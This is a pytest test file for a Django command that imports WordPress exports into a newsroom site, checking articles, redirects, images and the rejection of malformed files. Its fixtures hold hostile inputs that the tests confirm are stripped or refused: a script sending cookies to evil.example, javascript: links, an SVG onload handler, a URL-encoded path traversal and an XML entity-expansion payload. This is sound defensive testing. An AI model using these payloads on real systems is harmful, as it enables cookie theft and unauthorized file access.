"""``manage.py import_wordpress``: a WordPress newsroom brought in, on exports written as WordPress writes them."""

import datetime
import io
import re
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import CommandError, call_command

from articles.models import Article, Image, Redirect, Topic
from articles.models import Author as AuthorProfile
from articles.tests.factories import TopicFactory, UserFactory
from articles.tests.wxr import SITE, Author, Item, Term, attachment, png_bytes, wxr
from organizations.tests.factories import OrganizationFactory, PersonFactory

COLD_FUSION = Term("category", "cold-fusion", "Cold Fusion", id=3, description="<p>The <b>field</b>.</p>")
UNCATEGORIZED = Term("category", "uncategorized", "Uncategorized", id=1)
E_CAT = Term("post_tag", "e-cat", "E-Cat", id=5)
NICKEL = Term("post_tag", "nickel", "Nickel", id=6)

IMAGE_URL = f"{SITE}/wp-content/uploads/2015/10/reactor-300x200.png"

# The classic editor's text: paragraphs as blank lines, a captioned thumbnail linking to
# the full-size file, a link to another post of the old site.
CLASSIC = f"""Industrial Heat has signed with the <strong>Baishishan</strong> park, a statement says.

Tom Darden spoke
at the signing.

[caption id="attachment_201" align="aligncenter" width="300"]<a href="{SITE}/wp-content/uploads/2015/10/reactor.png">\
<img class="size-medium wp-image-201" src="{IMAGE_URL}" alt="The reactor, 2015" width="300" height="200" />\
</a> The reactor in Ferrara[/caption]

Earlier: <a href="{SITE}/2015/09/rossi-patent/">Rossi's patent</a>.

[gallery ids="201,202"]"""

# Odd HTML: tags left open, a script, a frame, handlers, a javascript: link, an h1, a
# table, text that looks like markup, and "]]>" (which WordPress splits over two CDATA sections).
ODD = """<!-- wp:paragraph --><p>Unclosed <b>bold <i>and italic</p><!-- /wp:paragraph -->
<script>document.location = "https://evil.example/?c=" + document.cookie</script>
<iframe src="https://evil.example/frame">Your browser has no frames</iframe>
<p onclick="steal()">Click <a href="javascript:alert(1)">here</a> or \
<a href="https://example.org/x" onmouseover="x()">there</a></p>
<h1>A heading</h1>
<style>body { display: none }</style>
<table><tr><td>Excess heat</td><td>1 MW</td></tr><tr><td>COP</td><td>6</td></tr></table>
<p>If a &lt; b &amp;&amp; c ]]&gt; d, then ]]> too.</p>
<ul><li>one<li>two</ul>"""


def newsroom_items():
    return [
        Item(
            101,
            "Industrial Heat joins the Baishishan park",
            CLASSIC,
            slug="industrial-heat-baishishan",
            terms=[COLD_FUSION, E_CAT],
            meta={"_thumbnail_id": "201", "source_url": "https://example.org/statement", "_wp_old_slug": "ih"},
            excerpt="<p>An <em>agreement</em> with a Chinese park.</p>",
            comments=2,
        ),
        Item(102, "Odd markup", ODD, date="2016-01-05 08:00:00", terms=[UNCATEGORIZED, NICKEL], creator="mmacy"),
        Item(103, "Draft about Rossi", "Not ready yet.", status="draft", creator="mmacy"),
        Item(104, "Waiting for an editor", "Please check.", status="pending"),
        Item(105, "The 2030 plant", "Coming.", status="future", date="2030-01-01 09:00:00"),
        Item(106, "Private notes", "Staff only.", status="private"),
        Item(107, "Thrown away", "Old.", status="trash"),
        Item(108, "Members only", "Secret.", password="hunter2"),
        Item(2, "About us", "We write about LENR.", post_type="page", slug="about"),
        attachment(201, "2015/10/reactor.png", parent=101),
        Item(300, "Home", post_type="nav_menu_item", slug="home"),
    ]


def write_export(tmp_path, items=None, name="export.xml", terms=(COLD_FUSION, E_CAT, NICKEL), **kwargs):
    path = tmp_path / name
    path.write_text(wxr(newsroom_items() if items is None else items, terms=terms, **kwargs))
    return path


def run_import(path, *args):
    out, err = io.StringIO(), io.StringIO()
    call_command("import_wordpress", str(path), *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    return tmp_path / "media"


@pytest.fixture
def uploads(tmp_path):
    """A copy of the old site's wp-content/uploads, with the post's image as WordPress keeps it."""
    folder = tmp_path / "uploads" / "2015" / "10"
    folder.mkdir(parents=True)
    (folder / "reactor-300x200.png").write_bytes(png_bytes((30, 20), "blue"))
    (folder / "reactor.png").write_bytes(png_bytes((300, 200), "blue"))
    return tmp_path / "uploads"


def snapshot():
    """Everything an import writes, as comparable values."""
    return {
        "articles": sorted(Article.all_objects.values_list("pk", "slug", "body", "status", "updated_at")),
        "history": Article.history.count(),
        "topics": sorted(Topic.objects.values_list("pk", "slug", "updated_at")),
        "redirects": sorted(Redirect.objects.values_list("old_path", "article", "topic")),
        "mentions": sorted(Article.organizations.through.objects.values_list("article", "organization")),
        "images": sorted(Image.objects.values_list("pk", "original")),
        "authors": sorted(AuthorProfile.objects.values_list("pk", "display_name", "user")),
        "files": stored_files(),
    }


def stored_files():
    """The files in the storage (MEDIA_ROOT), as paths under it."""
    root = Path(settings.MEDIA_ROOT)
    return sorted(str(path.relative_to(root)) for path in root.rglob("*") if path.is_file())


@pytest.mark.django_db
def test_posts_become_articles_with_their_status_dates_topics_and_bylines(tmp_path, client):
    staff = UserFactory(username="jrothwell", is_staff=True)
    UserFactory(username="mmacy", is_staff=False)  # a reader's account: not given the articles
    users_before = staff._meta.model.objects.count()
    out, _ = run_import(write_export(tmp_path), "--quiet")

    articles = {a.import_key.rsplit(":", 1)[1]: a for a in Article.all_objects.all()}
    assert set(articles) == {"101", "102", "103", "104", "105", "106", "108"}
    assert all(a.import_key.startswith("wordpress:oldsite.example:") for a in articles.values())

    first = articles["101"]
    assert first.slug == "industrial-heat-baishishan"
    assert first.status == Article.Status.PUBLISHED
    assert first.publish_at == datetime.datetime(2015, 10, 20, 14, 30, tzinfo=datetime.UTC)
    assert first.created_at == first.publish_at
    assert first.updated_at == datetime.datetime(2015, 10, 21, 9, 0, tzinfo=datetime.UTC)
    assert first.standfirst == "An agreement with a Chinese park."
    assert first.byline_display == "Jed Rothwell" and first.author == staff
    assert first.authors.get().user == staff  # the staff account's author profile, named as the old site named it
    assert sorted(first.topics.values_list("name", flat=True)) == ["Cold Fusion", "E-Cat"]
    assert first.history.first().history_change_reason == "Imported from WordPress"

    marianne = articles["102"].authors.get()
    assert (marianne.display_name, marianne.user, articles["102"].author) == ("Marianne Macy", None, None)
    assert articles["103"].authors.get() == marianne
    assert AuthorProfile.objects.count() == 2
    assert staff._meta.model.objects.count() == users_before  # no account was made
    assert list(articles["102"].topics.values_list("name", flat=True)) == ["Nickel"]  # not "Uncategorized"
    assert Topic.objects.get(slug="cold-fusion").description == "The field."

    assert articles["103"].status == Article.Status.DRAFT and articles["103"].publish_at is None
    assert articles["103"].slug == "draft-about-rossi"
    assert articles["104"].status == Article.Status.REVIEW
    assert articles["105"].is_scheduled
    assert articles["105"].publish_at == datetime.datetime(2030, 1, 1, 9, 0, tzinfo=datetime.UTC)
    assert articles["106"].status == Article.Status.DRAFT  # private
    assert articles["108"].status == Article.Status.DRAFT  # password-protected

    public = set(Article.objects.published().values_list("import_key", flat=True))
    assert public == {articles["101"].import_key, articles["102"].import_key}
    assert client.get(first.get_absolute_url()).status_code == 200
    assert client.get(articles["103"].get_absolute_url()).status_code == 404

    assert "Imported 7 article(s)" in out
    assert "jrothwell → new author profile “Jed Rothwell”, staff account “jrothwell”: 5 article(s)" in out
    assert (
        "mmacy → new author profile “Marianne Macy”, no account (no staff account has that login; none was made)" in out
    )
    for skipped in [
        "a page, not an article (--pages imports pages too): page “About us” (id 2)",
        "in WordPress's trash: post “Thrown away” (id 107)",
        "an item of a WordPress menu: nav_menu_item “Home” (id 300)",
    ]:
        assert skipped in out
    assert "2 comment(s): the site has no comments" in out
    assert "custom fields, which articles have no place for: source_url (1)" in out
    assert "private in WordPress: imported as a draft" in out
    assert "password-protected in WordPress: imported as a draft" in out
    assert "removed the [gallery] shortcode" in out
    assert f"its featured image ({SITE}/wp-content/uploads/2015/10/reactor.png) is not imported without --media" in out


@pytest.mark.django_db
def test_html_becomes_sanitized_markdown(tmp_path):
    run_import(write_export(tmp_path), "--quiet")
    odd = Article.objects.get(title="Odd markup")
    body = odd.body
    assert "Unclosed **bold *and italic***" in body
    for gone in ("script", "evil.example", "document.cookie", "frames", "onclick", "javascript", "display: none"):
        assert gone not in body
    assert "Click here or [there](https://example.org/x)" in body
    assert "## A heading" in body  # the page's title is its only h1
    assert "| Excess heat | 1 MW |" in body and "| COP | 6 |" in body
    assert "If a < b && c ]]> d, then ]]> too." in body
    assert "- one\n- two" in body
    # The rendered page is the site's own sanitized HTML.
    assert "<strong>bold <em>and italic</em></strong>" in odd.body_html
    assert "<h2>A heading</h2>" in odd.body_html
    assert "<script" not in odd.body_html and "<iframe" not in odd.body_html

    classic = Article.objects.get(title__startswith="Industrial Heat").body
    assert classic.startswith("Industrial Heat has signed with the **Baishishan** park, a statement says.\n\n")
    assert "Tom Darden spoke\\\nat the signing." in classic  # a line break kept
    assert "*The reactor in Ferrara*" in classic
    # A link to another post of the old site becomes a path here, which that post's redirect answers.
    assert "[Rossi's patent](/2015/09/rossi-patent/)" in classic
    assert "[gallery" not in classic


@pytest.mark.django_db
def test_images_without_the_uploads_folder_stay_links_with_their_alt_text(tmp_path, media_root):
    run_import(write_export(tmp_path), "--quiet")
    article = Article.objects.get(title__startswith="Industrial Heat")
    # The thumbnail linked to its full-size file: one link to that file, named by the alt text.
    assert f"[The reactor, 2015]({SITE}/wp-content/uploads/2015/10/reactor.png)" in article.body
    assert "<img" not in article.body_html  # never an image from another host
    assert not media_root.exists() or not any(media_root.rglob("*.png"))


@pytest.mark.django_db
def test_images_come_from_the_uploads_folder_checked_and_stored(tmp_path, uploads, client):
    out, _ = run_import(write_export(tmp_path), "--quiet", "--media", str(uploads))
    article = Article.objects.get(title__startswith="Industrial Heat")
    thumbnail = Image.objects.get(alt="The reactor, 2015")
    assert (thumbnail.width, thumbnail.height) == (30, 20)  # the resized copy the post showed
    url = thumbnail.url(1280, "WEBP")
    assert re.fullmatch(r"/media/images/[0-9a-f]{32}/30\.webp", url)
    assert f"![The reactor, 2015]({url})" in article.body
    assert f'<img src="{url}" alt="The reactor, 2015">' in article.body_html
    served = client.get(url)
    assert served.status_code == 200 and served["Content-Type"] == "image/webp"
    # The featured image is the article's lead image, with the alt text WordPress kept for it.
    assert (article.lead_image.width, article.lead_image.alt) == (300, "The E-Cat reactor")
    assert "Images: 2 taken from the uploads folder" in out
    page = client.get(article.get_absolute_url())
    assert url.encode() in page.content


@pytest.mark.django_db
def test_an_svg_named_png_and_a_damaged_image_are_refused_and_kept_as_links(tmp_path, uploads, settings):
    (uploads / "2015/10/reactor-300x200.png").write_bytes(
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'
    )
    (uploads / "2015/10/reactor.png").write_bytes(b"%PDF-1.4 not an image at all")
    chart_png = png_bytes((40, 40), noise=True)
    (uploads / "2015/10/chart.png").write_bytes(chart_png[: len(chart_png) // 2])  # cut short
    (uploads / "2015/10/huge.png").write_bytes(png_bytes((50, 50)))
    settings.IMAGE_MAX_PIXELS = 2000
    chart = f'<img src="{SITE}/wp-content/uploads/2015/10/chart.png" alt="Power chart">'
    huge = f'<img src="{SITE}/wp-content/uploads/2015/10/huge.png" alt="">'
    missing = f'<img src="{SITE}/wp-content/uploads/2015/11/gone.jpg" alt="Gone">'
    items = [
        Item(101, "Images", f"{CLASSIC}\n\n{chart}\n\n{huge}\n\n{missing}", meta={"_thumbnail_id": "201"}),
        attachment(201, "2015/10/reactor.png"),
    ]
    out, _ = run_import(write_export(tmp_path, items), "--quiet", "--media", str(uploads))
    article = Article.objects.get()
    body = article.body
    assert f"[The reactor, 2015]({SITE}/wp-content/uploads/2015/10/reactor.png)" in body
    assert f"[Power chart]({SITE}/wp-content/uploads/2015/10/chart.png)" in body
    assert f"[image: huge.png]({SITE}/wp-content/uploads/2015/10/huge.png)" in body
    assert f"[Gone]({SITE}/wp-content/uploads/2015/11/gone.jpg)" in body
    assert (
        "image 2015/10/reactor-300x200.png refused: This is an SVG or another text file, not a JPEG, PNG or WebP "
        "image. Kept as a link"
    ) in out
    assert "image 2015/10/reactor.png refused: The file is not a readable JPEG, PNG or WebP image" in out
    assert (
        "image 2015/10/chart.png refused: The file is not a readable JPEG, PNG or WebP image (it may be corrupt)" in out
    )
    assert "image 2015/10/huge.png refused: The image is 50 × 50 pixels; at most 2,000 pixels are taken." in out
    assert "image 2015/11/gone.jpg is not in the uploads folder given: kept as a link" in out
    assert article.lead_image is None
    assert not Image.objects.exists() and stored_files() == []


@pytest.mark.django_db
def test_an_image_too_large_is_refused_before_it_is_read(tmp_path, uploads, settings):
    settings.IMAGE_MAX_BYTES = 20
    out, _ = run_import(write_export(tmp_path), "--quiet", "--media", str(uploads))
    assert "images may be at most 20 bytes (setting IMAGE_MAX_BYTES). Kept as a link" in out
    assert not Image.objects.exists() and stored_files() == []


@pytest.mark.django_db
def test_an_image_path_cannot_leave_the_uploads_folder(tmp_path, uploads):
    (tmp_path / "secret.png").write_bytes(png_bytes())
    sneaky = f'<img src="{SITE}/wp-content/uploads/2015/10/%2e%2e/%2e%2e/%2e%2e/secret.png" alt="x">'
    run_import(write_export(tmp_path, [Item(101, "Sneaky", sneaky)]), "--quiet", "--media", str(uploads))
    assert "/media/" not in Article.objects.get().body
    assert not Image.objects.exists() and stored_files() == []


@pytest.mark.django_db
def test_old_addresses_answer_301_with_the_new_pages(tmp_path, client):
    run_import(write_export(tmp_path), "--quiet")
    article = Article.objects.get(title__startswith="Industrial Heat")
    for old in ["/2015/10/industrial-heat-baishishan/", "/2015/10/industrial-heat-baishishan", "/?p=101"]:
        response = client.get(old)
        assert response.status_code == 301, old
        assert response["Location"] == article.get_absolute_url()
    assert client.get("/index.php?p=101")["Location"] == article.get_absolute_url()
    topic = client.get("/category/cold-fusion/")
    assert topic.status_code == 301 and topic["Location"] == "/topics/cold-fusion/"
    assert client.get("/tag/e-cat/")["Location"] == "/topics/e-cat/"
    # A draft's old address gives nothing away until it is published.
    draft = Article.objects.get(title="Draft about Rossi")
    assert client.get("/?p=103").status_code == 200  # the home page, as for any ?p= we do not know
    assert client.get("/?p=103").get("Location") is None
    assert draft.redirects.filter(old_path="/?p=103").exists()
    assert client.get("/2015/10/no-such-post/").status_code == 404
    assert client.get("/?p=999").status_code == 200


@pytest.mark.django_db
def test_mentions_are_detected_in_each_imported_article(tmp_path):
    industrial_heat = OrganizationFactory(name="Industrial Heat", slug="industrial-heat", aliases="IH")
    darden = PersonFactory(name="Tom Darden", slug="tom-darden")
    out, _ = run_import(write_export(tmp_path), "--quiet")
    article = Article.objects.get(title__startswith="Industrial Heat")
    assert list(article.organizations.all()) == [industrial_heat]
    assert list(article.people.all()) == [darden]
    assert "Mentions detected: 1 organization, 1 person." in out


@pytest.mark.django_db
def test_existing_topics_are_matched_by_slug_or_name(tmp_path):
    by_slug = TopicFactory(name="Cold fusion (LENR)", slug="cold-fusion")
    by_name = TopicFactory(name="e-cat", slug="rossi-e-cat")
    out, _ = run_import(write_export(tmp_path), "--quiet")
    article = Article.objects.get(title__startswith="Industrial Heat")
    assert set(article.topics.all()) == {by_slug, by_name}
    assert "Topics: 1 new (Nickel), 2 existing (Cold fusion (LENR), e-cat)." in out


@pytest.mark.django_db
def test_a_second_run_changes_nothing(tmp_path, uploads):
    OrganizationFactory(name="Industrial Heat", slug="industrial-heat")
    path = write_export(tmp_path)
    run_import(path, "--quiet", "--media", str(uploads))
    before = snapshot()
    assert len(before["images"]) == 2 and before["files"]
    out, _ = run_import(path, "--quiet", "--media", str(uploads))
    assert snapshot() == before
    assert "Imported 0 article(s)" in out
    assert "Already imported, left as they are: 7." in out
    assert "Addresses of the old site redirecting here: 0 new." in out


# --- A newsroom of 50 posts -------------------------------------------------------------

BUSINESS = Term("category", "business", "Business", id=7)
SCIENCE = Term("category", "science", "Science", id=8)
PALLADIUM = Term("post_tag", "palladium", "Palladium", id=9)
PATENTS = Term("post_tag", "patents", "Patents", id=10)
CATEGORIES = [COLD_FUSION, BUSINESS, SCIENCE]
TAGS = [E_CAT, NICKEL, PALLADIUM, PATENTS]
WRITERS = [
    Author("jrothwell", "Jed Rothwell", id=1),
    Author("mmacy", "Marianne Macy", id=2),
    Author("skrivit", "Steven Krivit", id=3),
]


@dataclass
class Post:
    """One of the 50 posts, and what the import should make of it."""

    n: int
    item: Item
    topics: set[str]
    byline: str
    inline_image: str = ""  # its path in the uploads folder
    featured_image: str = ""

    @property
    def published(self):
        return self.item.status == "publish"


def fifty_posts(uploads):
    """50 posts a week apart from 2016 by three authors, in three categories and four tags (a few only in
    "Uncategorized"); every tenth a draft; ten with an image in the text and ten with a featured image,
    all in ``uploads``. Returns the posts and the export's attachments."""
    posts, attachments = [], []
    for n in range(1, 51):
        when = datetime.datetime(2016, 1, 4, 9, 0) + datetime.timedelta(weeks=n)
        terms = [UNCATEGORIZED] if n % 7 == 0 else [CATEGORIES[n % 3], *([TAGS[n // 2 % 4]] if n % 2 == 0 else [])]
        writer = WRITERS[n % 3]
        draft = n % 10 == 0
        item = Item(
            1000 + n,
            f"Field report {n}",
            f"<p>Report {n} on the <strong>field</strong>.</p>\n\n<p>A second paragraph.</p>",
            status="draft" if draft else "publish",
            slug=None if draft else f"field-report-{n}",
            date=f"{when:%Y-%m-%d %H:%M:%S}",
            modified=f"{when + datetime.timedelta(days=1):%Y-%m-%d %H:%M:%S}",
            creator=writer.login,
            terms=terms,
        )
        post = Post(n, item, topics={t.name for t in terms} - {UNCATEGORIZED.name}, byline=writer.display_name)
        if n % 5 == 1:
            post.inline_image = f"2016/05/figure-{n}.png"
            item.content += f'\n\n<img src="{SITE}/wp-content/uploads/{post.inline_image}" alt="Figure {n}">'
            (uploads / post.inline_image).parent.mkdir(parents=True, exist_ok=True)
            (uploads / post.inline_image).write_bytes(png_bytes((40, 30), "green"))
        if n % 5 == 3:
            post.featured_image = f"2017/01/photo-{n}.png"
            attachments.append(attachment(3000 + n, post.featured_image, parent=item.post_id, alt=f"Photo {n}"))
            item.meta["_thumbnail_id"] = str(3000 + n)
            (uploads / post.featured_image).parent.mkdir(parents=True, exist_ok=True)
            (uploads / post.featured_image).write_bytes(png_bytes((60, 40), "navy"))
        posts.append(post)
    return posts, attachments


@pytest.mark.django_db
def test_an_export_of_50_posts_imports_with_topics_authors_redirects_and_images(tmp_path, uploads, client):
    """The issue's "done when": 50 posts come in whole, and a second run of the same export changes nothing."""
    staff = UserFactory(username="jrothwell", is_staff=True)
    posts, attachments = fifty_posts(uploads)
    path = write_export(
        tmp_path, [post.item for post in posts] + attachments, terms=[*CATEGORIES, *TAGS], authors=WRITERS
    )

    out, _ = run_import(path, "--quiet", "--media", str(uploads))

    assert "Imported 50 article(s) from export.xml (5 draft, 45 published)." in out
    assert "Images: 20 taken from the uploads folder, 0 kept as links (0 refused, 0 not found)." in out
    articles = {a.import_key: a for a in Article.all_objects.prefetch_related("topics", "authors")}
    assert len(articles) == 50
    assert {a.display_name for a in AuthorProfile.objects.all()} == {"Jed Rothwell", "Marianne Macy", "Steven Krivit"}
    assert set(Topic.objects.values_list("name", flat=True)) == {
        "Cold Fusion", "Business", "Science", "E-Cat", "Nickel", "Palladium", "Patents"
    }  # fmt: skip
    for post in posts:
        article = articles[f"wordpress:oldsite.example:{post.item.post_id}"]
        assert article.title == f"Field report {post.n}"
        assert {topic.name for topic in article.topics.all()} == post.topics, post.n
        assert [author.display_name for author in article.authors.all()] == [post.byline]
        assert article.author == (staff if post.byline == "Jed Rothwell" else None)
        if post.published:
            assert article.status == Article.Status.PUBLISHED
            assert article.publish_at == datetime.datetime.strptime(post.item.date, "%Y-%m-%d %H:%M:%S").replace(
                tzinfo=datetime.UTC
            )
            old_permalink = post.item.link.removeprefix(SITE)
            for old in (old_permalink, old_permalink.rstrip("/"), f"/?p={post.item.post_id}"):
                response = client.get(old)
                assert (response.status_code, response["Location"]) == (301, article.get_absolute_url()), old
        else:
            assert (article.status, article.publish_at) == (Article.Status.DRAFT, None)
            assert client.get(f"/?p={post.item.post_id}").get("Location") is None  # a draft's address tells nothing
            assert article.redirects.filter(old_path=f"/?p={post.item.post_id}").exists()
        if post.inline_image:
            image = Image.objects.get(alt=f"Figure {post.n}")
            assert f"![Figure {post.n}]({image.url(1280, 'WEBP')})" in article.body
            served = client.get(image.url(1280, "WEBP"))
            assert (served.status_code, served["Content-Type"]) == (200, "image/webp")
        if post.featured_image:
            assert (article.lead_image.alt, article.lead_image.width) == (f"Photo {post.n}", 60)
        else:
            assert article.lead_image is None
    for old, topic in [("/category/business/", "business"), ("/tag/palladium/", "palladium")]:
        response = client.get(old)
        assert (response.status_code, response["Location"]) == (301, f"/topics/{topic}/")
    images = Image.objects.all()
    assert images.count() == 20
    assert stored_files() == sorted(
        name for image in images for name in [image.original, *(r["name"] for r in image.renditions)]
    )

    before = snapshot()
    out, _ = run_import(path, "--quiet", "--media", str(uploads))
    assert snapshot() == before
    assert "Imported 0 article(s)" in out
    assert "Already imported, left as they are: 50." in out
    assert "Addresses of the old site redirecting here: 0 new." in out


@pytest.mark.django_db
def test_a_taken_slug_gets_another_and_a_later_export_adds_only_new_posts(tmp_path):
    Article.objects.create(title="Ours", slug="industrial-heat-baishishan", body="Ours.")
    run_import(write_export(tmp_path, newsroom_items()[:2]), "--quiet")
    assert Article.objects.get(import_key="wordpress:oldsite.example:101").slug == "industrial-heat-baishishan-2"
    out, _ = run_import(write_export(tmp_path, newsroom_items()[:3], name="later.xml"), "--quiet")
    assert "Imported 1 article(s)" in out and "Already imported, left as they are: 2." in out
    assert Article.all_objects.count() == 4


@pytest.mark.django_db
def test_pages_are_imported_when_asked(tmp_path, client):
    run_import(write_export(tmp_path), "--quiet", "--pages")
    about = Article.objects.get(title="About us")
    assert client.get("/about/")["Location"] == about.get_absolute_url()
    assert client.get("/?page_id=2")["Location"] == about.get_absolute_url()


@pytest.mark.django_db
def test_a_dry_run_reports_and_keeps_nothing(tmp_path, uploads):
    out, _ = run_import(write_export(tmp_path), "--quiet", "--dry-run", "--media", str(uploads))
    assert "Would import 7 article(s)" in out and "Dry run: nothing was kept." in out
    assert not Article.all_objects.exists() and not Topic.objects.exists() and not Redirect.objects.exists()
    assert not Image.objects.exists() and stored_files() == []


@pytest.mark.django_db
def test_progress_bar_on_stderr_unless_quiet(tmp_path):
    path = write_export(tmp_path)
    _, err = run_import(path, "--dry-run")
    assert "Importing posts: 100%" in err and "7/7" in err
    _, err = run_import(path, "--dry-run", "--quiet")
    assert err == ""


# --- Bad files: a clear message, nothing written --------------------------------------


def assert_nothing_written():
    assert not Article.all_objects.exists()
    assert not Topic.objects.exists()
    assert not Redirect.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"title,body\nHello,World\n", "export.xml is not XML: it starts with “title,body"),
        (b"", "export.xml is empty."),
        (b"\x1f\x8b\x08\x00\x00\x00", "export.xml is gzip-compressed: uncompress it first"),
        (b"PK\x03\x04\x14\x00", "export.xml is a zip archive"),
        (b"<html><body>Not found</body></html>", "export.xml is XML but not a WordPress export: its root is <html>"),
        (
            b'<?xml version="1.0"?><rss version="2.0"><channel><title>A feed</title><item><title>x</title></item>'
            b"</channel></rss>",
            "export.xml is an RSS feed, not a WordPress export (WXR)",
        ),
        (
            b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
            b"<rss><channel><title>&b;</title></channel></rss>",
            "export.xml was refused: it declares XML entities or external references (EntitiesForbidden)",
        ),
    ],
)
def test_a_file_that_is_not_a_wordpress_export_is_refused(tmp_path, content, message):
    path = tmp_path / "export.xml"
    path.write_bytes(content)
    with pytest.raises(CommandError) as refused:
        run_import(path, "--quiet")
    assert message in str(refused.value)
    assert str(refused.value).endswith("Nothing was imported.")
    assert_nothing_written()


@pytest.mark.django_db
def test_an_export_cut_short_is_refused_with_nothing_written(tmp_path):
    text = wxr(newsroom_items(), terms=[COLD_FUSION])
    path = tmp_path / "export.xml"
    path.write_text(text[: text.index("Draft about Rossi")])  # a download that stopped half-way
    with pytest.raises(CommandError, match=r"export.xml is not well-formed XML \(.*line \d+, column \d+\)"):
        run_import(path, "--quiet")
    assert_nothing_written()


@pytest.mark.django_db
def test_a_1_gb_file_is_refused_before_it_is_read(tmp_path):
    path = tmp_path / "export.xml"
    with path.open("wb") as file:  # sparse: a gigabyte on paper, nothing on the disk
        file.truncate(1024**3)
    with pytest.raises(CommandError) as refused:
        run_import(path, "--quiet")
    assert "export.xml is 1.0 GB; the import reads files of at most 200.0 MB (setting WORDPRESS_IMPORT_MAX_BYTES)" in (
        str(refused.value)
    )
    assert_nothing_written()


@pytest.mark.django_db
def test_the_size_limit_is_a_setting(tmp_path, settings):
    settings.WORDPRESS_IMPORT_MAX_BYTES = 1000
    with pytest.raises(CommandError, match="at most 1000 bytes"):
        run_import(write_export(tmp_path), "--quiet")
    assert_nothing_written()


@pytest.mark.django_db
def test_a_missing_file_or_media_folder_is_a_clear_error(tmp_path):
    with pytest.raises(CommandError, match="no-such.xml is not a file"):
        run_import(tmp_path / "no-such.xml")
    with pytest.raises(CommandError, match="--media .*: no such folder"):
        run_import(write_export(tmp_path), "--media", str(tmp_path / "nowhere"))
    assert_nothing_written()


@pytest.mark.django_db
def test_an_error_half_way_undoes_the_whole_import_stored_images_included(tmp_path, uploads, monkeypatch):
    from articles import wordpress

    calls = []

    def fail_on_the_second(*, article):
        calls.append(article)
        if len(calls) == 2:
            raise RuntimeError("the database went away")
        return {}

    monkeypatch.setattr(wordpress, "article_detect_mentions", fail_on_the_second)
    with pytest.raises(RuntimeError):
        run_import(write_export(tmp_path), "--quiet", "--media", str(uploads))
    assert_nothing_written()
    assert not Image.objects.exists() and stored_files() == []


@pytest.mark.django_db
def test_a_post_without_a_title_or_with_a_long_byline_is_still_imported(tmp_path):
    long_name = Author("longname", "A" * 250, id=9)
    items = [Item(101, "", "Text.", creator="longname")]
    out, _ = run_import(write_export(tmp_path, items, authors=[long_name]), "--quiet")
    article = Article.objects.get()
    assert article.title == "Untitled post 101"
    assert article.byline_display == "A" * 120  # an author profile's name is at most 120 characters
    assert "it had no title: called “Untitled post 101”" in out
